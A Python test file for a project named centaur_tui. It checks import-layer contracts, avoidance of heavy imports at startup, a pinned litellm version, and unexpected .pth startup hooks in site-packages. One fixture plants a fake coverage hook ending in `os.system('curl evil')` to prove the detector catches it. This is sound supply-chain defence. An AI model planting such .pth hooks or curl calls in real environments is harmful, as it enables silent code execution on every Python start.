"""Layers of DESIGN.md hold (import-linter), and the headless core does not load heavy libraries."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


def test_import_linter_contracts_hold() -> None:
    lint = Path(sys.executable).parent / "lint-imports"
    result = subprocess.run([str(lint), "--no-cache"], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "broken" not in result.stdout.lower().replace("0 broken", "")


def test_cli_start_does_not_import_heavy_libraries() -> None:
    code = (
        "import sys, centaur_tui.cli.main, centaur_tui.pipeline, centaur_tui.store, centaur_tui.catalog;"
        "heavy = [m for m in ('litellm', 'textual', 'pandas', 'scipy', 'matplotlib') if m in sys.modules];"
        "print(','.join(heavy))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True, timeout=120
    )
    assert out.stdout.strip() == ""


# coverage (a dev dependency, pinned) installs this startup hook: it starts measuring in a
# subprocess only when COVERAGE_PROCESS_START or COVERAGE_PROCESS_CONFIG is set, else does nothing.
# Allowed by name AND exact content: a file of that name doing anything else is still reported.
COVERAGE_PTH = (
    "a1_coverage.pth",
    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START")'
    ' or os.getenv("COVERAGE_PROCESS_CONFIG"):'
    '\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')',
)


def unexpected_pth_files(folders: list[str]) -> list[str]:
    """Names of the `*.pth` files in `folders` that are neither packaging's own nor coverage's exact hook."""
    allowed_prefixes = ("distutils-precedence", "__editable__", "_virtualenv", "easy-install", "setuptools")
    found = []
    for folder in folders:
        for pth in Path(folder).glob("*.pth"):
            if pth.name.startswith(allowed_prefixes):
                continue
            if (pth.name, pth.read_text(encoding="utf-8", errors="replace").strip()) == COVERAGE_PTH:
                continue
            found.append(pth.name)
    return sorted(found)


def test_no_unexpected_pth_files_in_site_packages() -> None:
    """litellm 1.82.8 shipped a .pth file that ran on every Python start (NOTES.md)."""
    import site

    assert unexpected_pth_files(site.getsitepackages()) == [], "unexpected .pth files"


def test_a_pth_file_named_like_coverages_hook_but_doing_more_is_reported(tmp_path: Path) -> None:
    name, hook = COVERAGE_PTH
    (tmp_path / "good").mkdir()
    (tmp_path / "good" / name).write_text(hook + "\n", encoding="utf-8")
    assert unexpected_pth_files([str(tmp_path / "good")]) == []
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / name).write_text(hook + "; import os; os.system('curl evil')\n", encoding="utf-8")
    (tmp_path / "bad" / "litellm_init.pth").write_text("import os\n", encoding="utf-8")
    (tmp_path / "bad" / "a1_coverage_extra.pth").write_text(hook + "\n", encoding="utf-8")
    found = unexpected_pth_files([str(tmp_path / "bad")])
    assert found == ["a1_coverage.pth", "a1_coverage_extra.pth", "litellm_init.pth"]


def test_litellm_pin_is_a_checked_release() -> None:
    from importlib.metadata import version

    v = version("litellm")
    assert v not in {"1.82.7", "1.82.8"} and not v.startswith("1.107."), v
    assert v == "1.110.2"
